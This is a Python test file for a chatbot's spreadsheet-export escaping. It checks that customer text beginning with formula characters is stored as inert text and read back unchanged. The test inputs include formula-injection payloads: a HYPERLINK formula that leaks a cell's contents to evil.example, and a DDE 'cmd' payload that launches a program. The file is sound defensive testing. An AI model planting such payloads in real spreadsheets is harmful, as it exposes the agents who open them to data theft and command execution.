"""No text of a customer is a formula to the spreadsheet of an agent, and each is read as it was written."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatbot.formulas import from_cell, to_cell

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1",
    "＋1", "－1", "＠SUM(1)", '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_written_as_text_and_read_as_it_was(text: str) -> None:
    assert to_cell(text) == "'" + text
    assert from_cell(to_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["where is my order?", "1 + 1 = 2", "'quoted'", "'", "", "a=b", "it's -5 degrees"]
)
def test_other_texts_stay(text: str) -> None:
    assert to_cell(text) == text
    assert from_cell(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n a＝")) | st.text())
def test_every_text_is_read_as_it_was_written(text: str) -> None:
    assert from_cell(to_cell(text)) == text
    assert not to_cell(text).lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
